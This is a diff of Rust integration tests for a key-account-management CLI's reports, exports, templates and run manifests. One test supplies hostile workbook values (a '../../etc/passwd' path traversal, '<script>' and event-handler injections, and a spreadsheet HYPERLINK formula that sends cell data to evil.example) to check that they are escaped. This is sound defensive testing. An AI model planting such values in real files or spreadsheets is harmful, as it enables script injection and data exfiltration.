@@ -730,7 +730,7 @@ fn output_is_identical_for_any_jobs_value() {
     let read = |jobs: &str| {
         let out = dir.path().join(format!("out-{jobs}"));
         kam()
-            .args(["run", "-q", "--jobs", jobs, "--out"])
+            .args(["run", "-q", "--all-plans", "--jobs", jobs, "--out"])
             .arg(&out)
             .arg(&book)
             .assert()
@@ -740,8 +740,20 @@ fn output_is_identical_for_any_jobs_value() {
             serde_json::from_slice(&fs::read(out.join("manifest.json")).unwrap()).unwrap();
         assert!(manifest["timings"]["import_s"].is_number());
         manifest.as_object_mut().unwrap().remove("timings");
-        let files = ["accounts.csv", "rejects.csv", "import.json", "scores.json"]
-            .map(|f| fs::read(out.join(f)).unwrap());
+        // Every other file: exports, scores and every report.
+        let files: Vec<(String, Vec<u8>)> = tree(&out)
+            .into_iter()
+            .filter(|f| f != "manifest.json")
+            .map(|f| {
+                let bytes = fs::read(out.join(&f)).unwrap();
+                (f, bytes)
+            })
+            .collect();
+        assert!(
+            files.len() > 800,
+            "400 plans and 9 reviews in two formats: {}",
+            files.len()
+        );
         (files, manifest)
     };
     assert_eq!(read("1"), read("2"));
@@ -1684,5 +1696,554 @@ fn the_kam_pack_reference_lists_every_name() {
                 "docs/kam-rules.md lacks `{name}`"
             );
         }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Reports and exports (issue 5).
+
+/// Every file under `dir`, relative, sorted.
+fn tree(dir: &Path) -> Vec<String> {
+    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
+        for e in fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                walk(base, &p, out);
+            } else {
+                out.push(p.strip_prefix(base).unwrap().display().to_string());
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(dir, dir, &mut out);
+    out.sort();
+    out
+}
+
+/// The inline SVGs of an HTML page, as text.
+fn svgs(html: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut rest = html;
+    while let Some(i) = rest.find("<svg") {
+        let end = rest[i..].find("</svg>").expect("closed svg") + i + 6;
+        out.push(&rest[i..end]);
+        rest = &rest[end..];
+    }
+    out
+}
+
+#[test]
+fn reports_link_up_and_their_svgs_are_well_formed() {
+    let r = run(&["run", "--all-plans"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let files = tree(&r.out);
+    // One plan per account (30, --all-plans) and one review per KAM (5), each in two formats.
+    assert_eq!(files.iter().filter(|f| f.starts_with("plans/")).count(), 60);
+    assert_eq!(
+        files.iter().filter(|f| f.starts_with("reviews/")).count(),
+        10
+    );
+    for f in [
+        "index.html",
+        "index.md",
+        "portfolio.html",
+        "portfolio.md",
+        "scores.xlsx",
+        "scores.csv",
+        "scores.json",
+        "rejects.csv",
+        "manifest.json",
+    ] {
+        assert!(files.contains(&f.to_string()), "{f} missing: {files:?}");
+    }
+    let a = scraper::Selector::parse("a[href]").unwrap();
+    let mut linked = std::collections::BTreeSet::new();
+    let mut svg_count = 0;
+    for f in files.iter().filter(|f| f.ends_with(".html")) {
+        let text = r.file(f);
+        let doc = scraper::Html::parse_document(&text);
+        assert!(doc.errors.is_empty(), "{f}: {:?}", doc.errors);
+        let base = Path::new(f).parent().unwrap();
+        for link in doc.select(&a) {
+            let href = link.value().attr("href").unwrap();
+            assert!(
+                !href.contains("://") && !href.starts_with('/'),
+                "{f}: reports never link outside the output: {href}"
+            );
+            let target = r.out.join(base).join(href.split('#').next().unwrap());
+            assert!(target.is_file(), "{f}: broken link {href}");
+            linked.insert(
+                target
+                    .canonicalize()
+                    .unwrap()
+                    .strip_prefix(r.out.canonicalize().unwrap())
+                    .unwrap()
+                    .display()
+                    .to_string(),
+            );
+        }
+        for svg in svgs(&text) {
+            roxmltree::Document::parse(svg).unwrap_or_else(|e| panic!("{f}: SVG: {e}\n{svg}"));
+            svg_count += 1;
+        }
+    }
+    assert_eq!(
+        svg_count, 3,
+        "the portfolio's matrix, Pareto curve and share bars"
+    );
+    // index.html reaches every report.
+    let index = scraper::Html::parse_document(&r.file("index.html"));
+    let from_index: std::collections::BTreeSet<String> = index
+        .select(&a)
+        .map(|l| l.value().attr("href").unwrap().to_string())
+        .collect();
+    for f in files
+        .iter()
+        .filter(|f| f.starts_with("plans/") || f.starts_with("reviews/"))
+    {
+        assert!(from_index.contains(f), "index.html does not link {f}");
+    }
+    assert!(linked.contains("portfolio.html"));
+}
+
+fn report_snapshot(lang: &str) {
+    let r = run(&["run", "--lang", lang]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    for (name, file) in [
+        ("plan", "plans/a01-caspian-steel-jsc"),
+        ("review", "reviews/k1"),
+        ("portfolio", "portfolio"),
+    ] {
+        for ext in ["html", "md"] {
+            insta::assert_snapshot!(
+                format!("report_{lang}_{name}_{ext}"),
+                r.file(&format!("{file}.{ext}"))
+            );
+        }
+    }
+}
+
+#[test]
+fn english_reports_of_the_sample() {
+    report_snapshot("en");
+}
+
+#[test]
+fn russian_reports_of_the_sample() {
+    report_snapshot("ru");
+    let r = run(&["run", "--lang", "fr"]);
+    assert_eq!(r.code, 2);
+    assert!(
+        r.stderr.contains("unknown --lang `fr`: kam has en, ru"),
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn names_from_the_workbook_cannot_inject_script_formulas_or_paths() {
+    let r = run_file("valid/hostile-names.xlsx", &["--all-plans"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let files = tree(&r.out);
+    // `../../etc/passwd` as an id and a name becomes a plain file name inside plans/.
+    assert!(
+        files.contains(&"plans/etc-passwd-etc-passwd.html".to_string()),
+        "{files:?}"
+    );
+    assert!(files.iter().all(|f| !f.contains("..")));
+    assert!(!r.out.parent().unwrap().join("etc").exists());
+    // Two accounts with the same name get two files.
+    assert!(files.contains(&"plans/x5-acme-sons-ltd.html".to_string()));
+    assert!(files.contains(&"plans/x6-acme-sons-ltd.html".to_string()));
+    let any = scraper::Selector::parse("*").unwrap();
+    for f in files.iter().filter(|f| f.ends_with(".html")) {
+        let text = r.file(f);
+        for bad in ["<script", "<img", "<svg onload", "<b>1", "<i>Evil"] {
+            assert!(!text.contains(bad), "{f} prints `{bad}` unescaped");
+        }
+        // As a browser parses it: no script, image, bold or italic element, no event handler.
+        let doc = scraper::Html::parse_document(&text);
+        for el in doc.select(&any) {
+            let name = el.value().name();
+            assert!(
+                !["script", "img", "b", "i"].contains(&name),
+                "{f}: <{name}> element"
+            );
+            assert!(
+                el.value().attrs().all(|(a, _)| !a.starts_with("on")),
+                "{f}: event handler on <{name}>"
+            );
+        }
+    }
+    let plan = r.file("plans/x1-script-alert-x-script.html");
+    assert!(
+        plan.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"),
+        "{plan}"
+    );
+    assert!(
+        plan.contains("&lt;script&gt;document.write"),
+        "the KAM's own text is escaped too"
+    );
+    let md = r.file("plans/x1-script-alert-x-script.md");
+    assert!(
+        md.contains("&lt;script&gt;alert('x')&lt;/script&gt;"),
+        "{md}"
+    );
+    assert!(md.contains(r"Needs \| pipes \* stars \_under\_"), "{md}");
+    assert!(!md.contains("<script"));
+    // CSV and xlsx: text from the workbook that a spreadsheet would run is quoted.
+    let csv = r.file("scores.csv");
+    assert!(
+        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1;""click"")""#),
+        "{csv}"
+    );
+    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
+    use calamine::Reader;
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(r.out.join("scores.xlsx")).unwrap();
+    let sheet = book.worksheet_range("Accounts").unwrap();
+    let names: Vec<String> = sheet.rows().skip(1).map(|row| row[1].to_string()).collect();
+    assert!(
+        names.contains(&r#"'=HYPERLINK("http://evil.example/?"&A1;"click")"#.to_string()),
+        "{names:?}"
+    );
+    assert!(
+        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
+        "{names:?}"
+    );
+    let managers = book.worksheet_range("Managers").unwrap();
+    let kam_names: Vec<String> = managers
+        .rows()
+        .skip(1)
+        .map(|row| row[1].to_string())
+        .collect();
+    assert!(
+        kam_names.contains(&"'+Plus Manager".to_string()),
+        "{kam_names:?}"
+    );
+}
+
+#[test]
+fn scores_xlsx_has_three_sheets_with_headers_and_formats() {
+    let r = run(&["run"]);
+    use calamine::Reader;
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(r.out.join("scores.xlsx")).unwrap();
+    assert_eq!(book.sheet_names(), ["Accounts", "Managers", "Rejects"]);
+    let accounts = book.worksheet_range("Accounts").unwrap();
+    assert_eq!(accounts.height(), 31, "a header and 30 accounts");
+    let header: Vec<String> = accounts
+        .rows()
+        .next()
+        .unwrap()
+        .iter()
+        .map(|c| c.to_string())
+        .collect();
+    assert_eq!(
+        &header[..6],
+        ["id", "name", "kam_id", "level", "band", "score"]
+    );
+    let a01 = accounts.rows().nth(1).unwrap();
+    assert_eq!(a01[0].to_string(), "A01");
+    let share = header.iter().position(|h| h == "share").unwrap();
+    assert_eq!(calamine::DataType::get_float(&a01[share]), Some(0.25));
+    // The csv export has the same columns and rows.
+    let csv = r.file("scores.csv");
+    assert_eq!(csv.lines().next().unwrap(), header.join(","));
+    assert_eq!(csv.lines().count(), 31);
+    let managers = book.worksheet_range("Managers").unwrap();
+    assert_eq!(
+        managers.rows().nth(1).unwrap()[0].to_string(),
+        "K1",
+        "ranked"
+    );
+    // Frozen header and autofilter are in the sheet XML.
+    let bytes = fs::read(r.out.join("scores.xlsx")).unwrap();
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut xml = String::new();
+    std::io::Read::read_to_string(
+        &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
+        &mut xml,
+    )
+    .unwrap();
+    assert!(xml.contains(r#"<pane ySplit="1""#), "frozen header");
+    assert!(xml.contains("<autoFilter"), "autofilter");
+    assert!(xml.contains("<cols>"), "column widths");
+}
+
+#[test]
+fn the_manifest_records_inputs_packs_params_and_templates() {
+    let path = fixture("valid/kam-sample.xlsx");
+    let r = run(&["run", path.to_str().unwrap(), "--set", "key_share=0.15"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let m: serde_json::Value = serde_json::from_str(&r.file("manifest.json")).unwrap();
+    use sha2::Digest;
+    let want = sha2::Sha256::digest(fs::read(&path).unwrap())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect::<String>();
+    assert_eq!(m["inputs"][0]["sha256"], want.as_str());
+    assert_eq!(m["inputs"][0]["counts"]["accounts"], 30);
+    assert_eq!(m["inputs"][0]["counts"]["plans_written"], 6);
+    assert_eq!(m["inputs"][0]["counts"]["reviews_written"], 5);
+    assert_eq!(m["params"]["key_share"], 0.15);
+    assert_eq!(m["set"][0], "key_share=0.15");
+    let packs = m["rule_packs"].as_array().unwrap();
+    assert_eq!(packs.len(), 2);
+    let text = kam::rules::DEFAULT_FILES
+        .iter()
+        .find(|(n, _)| *n == "key-clients.yaml")
+        .unwrap()
+        .1;
+    let want = sha2::Sha256::digest(text.as_bytes())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect::<String>();
+    assert_eq!(packs[0]["sha256"], want.as_str());
+    assert_eq!(m["templates"]["lang"], "en");
+    assert!(
+        m["templates"]["files"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|t| t["origin"] == "embedded")
+    );
+    for stage in [
+        "import_s",
+        "scoring_s",
+        "kam_metrics_s",
+        "exports_s",
+        "reports_s",
+    ] {
+        assert!(m["timings"][stage].is_number(), "{stage}");
+    }
+}
+
+#[test]
+fn overriding_one_template_changes_only_that_report() {
+    let dir = tempfile::tempdir().unwrap();
+    let t = dir.path().join("tpl");
+    fs::create_dir(&t).unwrap();
+    fs::write(
+        t.join("plan.md"),
+        "# {{ account.name }}\n\nOwn layout: {{ account.share | pct }} of our {{ common.params.share_basis }}.\n",
+    )
+    .unwrap();
+    let base = run(&["run"]);
+    let custom = run(&["run", "--templates", t.to_str().unwrap()]);
+    assert_eq!(custom.code, 0, "{}", custom.stderr);
+    assert_eq!(
+        custom.file("plans/a01-caspian-steel-jsc.md"),
+        "# Caspian Steel JSC\n\nOwn layout: 25.0\u{a0}% of our gross\\_profit.\n"
+    );
+    for f in tree(&base.out) {
+        if f == "manifest.json" || f.starts_with("plans/") && f.ends_with(".md") {
+            continue;
+        }
+        assert_eq!(
+            fs::read(base.out.join(&f)).unwrap(),
+            fs::read(custom.out.join(&f)).unwrap(),
+            "{f} changed"
+        );
+    }
+    let m: serde_json::Value = serde_json::from_str(&custom.file("manifest.json")).unwrap();
+    let origin = m["templates"]["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["name"] == "plan.md")
+        .unwrap()["origin"]
+        .clone();
+    assert!(origin.as_str().unwrap().ends_with("plan.md"), "{origin}");
+}
+
+#[test]
+fn template_errors_name_the_file_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let broken = dir.path().join("broken");
+    fs::create_dir(&broken).unwrap();
+    fs::write(
+        broken.join("review.html"),
+        "{% extends \"base.html\" %}\n{% block content %}\n<p>{{ kam.name | nosuch }}</p>\n{% endblock content %}\n",
+    )
+    .unwrap();
+    // The previous output stays when a template is broken.
+    let out = dir.path().join("out");
+    kam()
+        .args(["run", "-q", "--out"])
+        .arg(&out)
+        .assert()
+        .success();
+    let before = fs::read(out.join("index.html")).unwrap();
+    let o = kam()
+        .args(["run", "-q", "--templates"])
+        .arg(&broken)
+        .arg("--out")
+        .arg(&out)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains(&format!("{}:3:", broken.join("review.html").display())),
+        "{err}"
+    );
+    assert!(err.contains("<p>{{ kam.name | nosuch }}</p>"), "{err}");
+    assert!(err.contains('^'), "{err}");
+    assert_eq!(fs::read(out.join("index.html")).unwrap(), before);
+
+    // An undefined variable: the report is skipped and listed; --strict stops the run.
+    let undefined = dir.path().join("undefined");
+    fs::create_dir(&undefined).unwrap();
+    fs::write(
+        undefined.join("plan.md"),
+        "# {{ account.name }}\n{{ account.nickname }}\n",
+    )
+    .unwrap();
+    let lenient = run(&["run", "--templates", undefined.to_str().unwrap()]);
+    assert_eq!(lenient.code, 0, "{}", lenient.stderr);
+    assert!(
+        lenient.stderr.contains(
+            "report plans/a01-caspian-steel-jsc.md not written: Field `nickname` is not defined"
+        ),
+        "{}",
+        lenient.stderr
+    );
+    assert!(
+        lenient
+            .stderr
+            .contains("… and 6 more reports with the same template error"),
+        "{}",
+        lenient.stderr
+    );
+    assert!(
+        lenient
+            .stderr
+            .contains(&format!("{}:2:", undefined.join("plan.md").display()))
+    );
+    assert!(
+        lenient.file("index.html").contains("nickname"),
+        "index.html lists the problem"
+    );
+    let strict = run(&[
+        "run",
+        "--strict",
+        "--templates",
+        undefined.to_str().unwrap(),
+    ]);
+    assert_eq!(strict.code, 2, "{}", strict.stderr);
+    assert!(
+        strict.stderr.contains("Field `nickname` is not defined"),
+        "{}",
+        strict.stderr
+    );
+    assert!(!strict.out.exists(), "nothing written");
+
+    // A language file with a typo in a key.
+    let lang = dir.path().join("lang-typo");
+    fs::create_dir_all(lang.join("lang")).unwrap();
+    let en =
+        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/lang/en.yaml"))
+            .unwrap();
+    fs::write(
+        lang.join("lang/en.yaml"),
+        en.replace("plan_title:", "plan_titel:"),
+    )
+    .unwrap();
+    let r = run(&["run", "--templates", lang.to_str().unwrap()]);
+    assert_eq!(r.code, 2);
+    assert!(
+        r.stderr.contains("the key `plan_title` is missing"),
+        "{}",
+        r.stderr
+    );
+}
+
+#[test]
+fn a_previous_run_gives_movements_and_actions_done_since() {
+    let dir = tempfile::tempdir().unwrap();
+    let before = dir.path().join("before");
+    kam()
+        .args(["run", "-q", "--set", "key_share=0.11", "--out"])
+        .arg(&before)
+        .assert()
+        .success();
+    // In the previous run A01's finished action was still open.
+    let path = before.join("scores.json");
+    let mut s: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
+    let a01 = s["accounts"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|a| a["id"] == "A01")
+        .unwrap();
+    let actions = a01["actions"].as_array_mut().unwrap();
+    assert_eq!(actions.len(), 2, "{actions:?}");
+    for a in actions.iter_mut() {
+        a["status"] = "open".into();
+    }
+    fs::write(&path, serde_json::to_vec_pretty(&s).unwrap()).unwrap();
+    let r = run(&["run", "--previous", before.to_str().unwrap()]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let md = r.file("portfolio.md");
+    let movements = &md[md.find("## Movements since the previous run").unwrap()..];
+    // At 11 % A03 (10.5 % of profit) was no dependency; at 10 % it is, and its band rises.
+    assert!(
+        movements.contains("- Silk Road Logistics (A03): none → key"),
+        "{movements}"
+    );
+    assert!(
+        movements.contains("- Silk Road Logistics (A03): key → strategic"),
+        "{movements}"
+    );
+    insta::assert_snapshot!("report_movements", movements);
+    let plan = r.file("plans/a01-caspian-steel-jsc.md");
+    assert!(
+        plan.contains("| done (done since the previous run) | open |"),
+        "{plan}"
+    );
+    assert!(
+        plan.contains("1 / 2 actions done; 1 done since the previous run"),
+        "{plan}"
+    );
+    let bad = run(&[
+        "run",
+        "--previous",
+        dir.path().join("nowhere").to_str().unwrap(),
+    ]);
+    assert_eq!(bad.code, 2);
+    assert!(
+        bad.stderr
+            .contains("--previous takes the output folder of an earlier `kam run`"),
+        "{}",
+        bad.stderr
+    );
+}
+
+#[test]
+fn init_copies_the_templates_and_they_render_as_the_defaults() {
+    let dir = tempfile::tempdir().unwrap();
+    let own = dir.path().join("own");
+    kam().arg("init").arg(&own).assert().success();
+    for f in [
+        "templates/plan.html",
+        "templates/review.md",
+        "templates/lang/ru.yaml",
+        "templates/style.css",
+    ] {
+        assert!(own.join(f).is_file(), "{f}");
+    }
+    let base = run(&["run"]);
+    let copied = run(&[
+        "run",
+        "--templates",
+        own.join("templates").to_str().unwrap(),
+    ]);
+    assert_eq!(copied.code, 0, "{}", copied.stderr);
+    for f in [
+        "index.html",
+        "portfolio.md",
+        "plans/a01-caspian-steel-jsc.html",
+        "reviews/k1.md",
+    ] {
+        assert_eq!(base.file(f), copied.file(f), "{f}");
     }
 }
